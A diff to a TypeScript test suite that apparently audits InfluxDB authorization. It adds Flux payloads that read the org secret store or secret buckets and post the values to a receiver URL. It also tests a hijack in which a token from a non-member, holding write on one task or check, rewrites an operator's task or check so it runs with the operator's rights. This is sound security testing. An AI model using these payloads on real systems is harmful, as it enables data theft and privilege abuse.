@@ -23,6 +23,8 @@ import {
 
 // A value that exists only in the `secret` bucket: seeing it anywhere else proves a read of it.
 const SECRET_VALUE = '4242.5';
+// A value kept in the org's secret store (what endpoints and Flux `secrets.get` use).
+const ORG_SECRET = 'org-secret-store-value';
 
 let inst: InfluxInstance;
 let rx: Receiver;
@@ -43,6 +45,7 @@ beforeAll(async () => {
   users.member = await createOrgUser(inst, 'org-member', 'member');
   users.owner = await createOrgUser(inst, 'org-owner', 'owner');
   users.none = await createOrgUser(inst, 'no-membership', 'none');
+  expect((await operatorCall(inst, 'PATCH', `/api/v2/orgs/${inst.orgID}/secrets`, { apikey: ORG_SECRET })).status).toBe(204);
 });
 
 afterAll(async () => {
@@ -56,9 +59,16 @@ const postsTo = (path: string) => rx.requests.filter((r) => r.method === 'POST' 
 
 /** Flux that copies the secret bucket into `loot`, tagged so the copy is attributable. */
 const copyFlux = (by: string) => `from(bucket: "secret") |> range(start: -1h) |> set(key: "by", value: "${by}") |> to(bucket: "loot")`;
+/** Flux that sends the org secret `apikey` to the receiver: needs read on secrets. */
+const secretStoreFlux = (path: string) => `array.from(rows: [{s: http.post(url: "${rx.url}${path}", data: bytes(v: secrets.get(key: "apikey")))}])`;
+const SECRET_IMPORTS = 'import "http"\nimport "array"\nimport "influxdata/influxdb/secrets"\n';
 /** Flux that sends each secret value to the receiver: needs read on the bucket, no write anywhere. */
 const exfilFlux = (path: string) =>
   `from(bucket: "secret") |> range(start: -1h) |> map(fn: (r) => ({r with posted: http.post(url: "${rx.url}${path}", data: bytes(v: string(v: r._value)))}))`;
+
+/** A custom check is a task whose whole Flux is the check's query text; it runs on its own schedule. */
+const customCheckText = (name: string, body: string, imports = '') =>
+  `${imports}option task = {name: "${name}", every: 1s, offset: 0s}\ncheck = {_check_id: "x", _check_name: "${name}", _type: "custom", tags: {}}\n${body}`;
 
 async function createAndRunTask(token: string, name: string, body: string, imports = '') {
   const created = await call(inst, token, 'POST', '/api/v2/tasks', { orgID: inst.orgID, flux: `${imports}option task = {name: "${name}", every: 1h}\n${body}` });
@@ -97,6 +107,10 @@ describe('tasks: write:tasks alone runs Flux with the owner’s org rights', () 
     const exfil = await createAndRunTask(token, 'exfil-as-member', exfilFlux('/task-member'), 'import "http"\n');
     expect(exfil.status).toBe('success');
     expect(postsTo('/task-member').map((r) => r.body)).toEqual([SECRET_VALUE]);
+
+    const secrets = await createAndRunTask(token, 'secrets-as-member', secretStoreFlux('/task-member-secrets'), SECRET_IMPORTS);
+    expect(secrets.status).toBe('success');
+    expect(postsTo('/task-member-secrets').map((r) => r.body)).toEqual([ORG_SECRET]);
   });
 
   it('owned by a user with NO membership (as the console harness creates it): no bucket is readable or writable', async () => {
@@ -110,10 +124,49 @@ describe('tasks: write:tasks alone runs Flux with the owner’s org rights', () 
     expect(exfil.status).toBe('failed');
     expect(postsTo('/task-nobody')).toEqual([]);
 
+    const secrets = await createAndRunTask(token, 'secrets-as-nobody', secretStoreFlux('/task-nobody-secrets'), SECRET_IMPORTS);
+    expect(secrets.status).toBe('failed');
+    expect(secrets.log.join('\n')).toContain(`read:orgs/${inst.orgID}/secrets is unauthorized`);
+    expect(postsTo('/task-nobody-secrets')).toEqual([]);
+
     // What stays: Flux that needs no rights, e.g. an HTTP call (see the next describe: any token can).
     const ping = await createAndRunTask(token, 'ping-as-nobody', `array.from(rows: [{s: http.post(url: "${rx.url}/ping-nobody", data: bytes(v: "ping"))}])`, 'import "http"\nimport "array"\n');
     expect(ping.status).toBe('success');
     expect(postsTo('/ping-nobody').map((r) => r.body)).toEqual(['ping']);
+  });
+});
+
+describe('editing keeps the original owner: write on tasks or checks borrows the rights of whoever owns an existing one', () => {
+  it('a token owned by a NON-member, holding write on that ONE task only, rewrites the operator’s task and runs it with the operator’s org rights', async () => {
+    const own = await operatorCall(inst, 'POST', '/api/v2/tasks', { orgID: inst.orgID, flux: 'option task = {name: "operator-task", every: 1h}\n1' });
+    expect(own.body.ownerID).toBe(inst.operatorUserID);
+    const token = await mintFor(inst, users.none, [grant(inst, 'write', 'tasks', own.body.id)]);
+    const edited = await call(inst, token, 'PATCH', `/api/v2/tasks/${own.body.id}`, { flux: `option task = {name: "operator-task", every: 1h}\n${copyFlux('task-hijack')}` });
+    expect([edited.status, edited.body.ownerID]).toEqual([200, inst.operatorUserID]);
+    const run = await call(inst, token, 'POST', `/api/v2/tasks/${own.body.id}/runs`, {});
+    expect(run.status).toBe(201);
+    expect((await waitForRun(inst, inst.operatorToken, own.body.id, run.body.id)).status).toBe('success');
+    expect((await lootRowsBy('task-hijack')).map((r) => r._value)).toEqual([SECRET_VALUE]);
+  });
+
+  it('a token owned by a NON-member, holding read+write:checks, rewrites the operator’s check; its schedule then copies the secret bucket', async () => {
+    const name = 'operator-check';
+    const own = await operatorCall(inst, 'POST', '/api/v2/checks', { type: 'custom', name, orgID: inst.orgID, status: 'active', query: { text: customCheckText(name, '1') } });
+    expect([own.status, own.body.ownerID]).toEqual([201, inst.operatorUserID]);
+    try {
+      const token = await mintFor(inst, users.none, [grant(inst, 'write', 'checks'), grant(inst, 'read', 'checks')]);
+      const edited = await call(inst, token, 'PUT', `/api/v2/checks/${own.body.id}`, { ...own.body, query: { text: customCheckText(name, copyFlux('check-hijack')) } });
+      expect(edited.status).toBe(200);
+      const task = (await operatorCall(inst, 'GET', `/api/v2/tasks/${own.body.taskID}`)).body;
+      expect(task.ownerID).toBe(inst.operatorUserID);
+      const rows = await waitUntil('the hijacked check’s copy in loot', async () => {
+        const r = await lootRowsBy('check-hijack');
+        return r.length > 0 ? r : undefined;
+      }, 30_000);
+      expect(rows.map((r) => r._value)).toEqual([SECRET_VALUE]);
+    } finally {
+      await operatorCall(inst, 'DELETE', `/api/v2/checks/${own.body.id}`);
+    }
   });
 });
 
@@ -132,10 +185,6 @@ describe('baseline: contacting a URL needs no grant at all', () => {
     expect(rx.requests.filter((r) => r.method === 'GET' && r.path === '/template.yml')).toHaveLength(1);
   });
 });
-
-/** A custom check is a task whose whole Flux is the check's query text; it runs on its own schedule. */
-const customCheckText = (name: string, body: string, imports = '') =>
-  `${imports}option task = {name: "${name}", every: 1s, offset: 0s}\ncheck = {_check_id: "x", _check_name: "${name}", _type: "custom", tags: {}}\n${body}`;
 
 describe('checks: write:checks alone schedules Flux that runs with the owner’s org rights', () => {
   it('owned by an org OWNER: the check’s task copies the secret bucket every second, and goes on after the token is deleted', async () => {
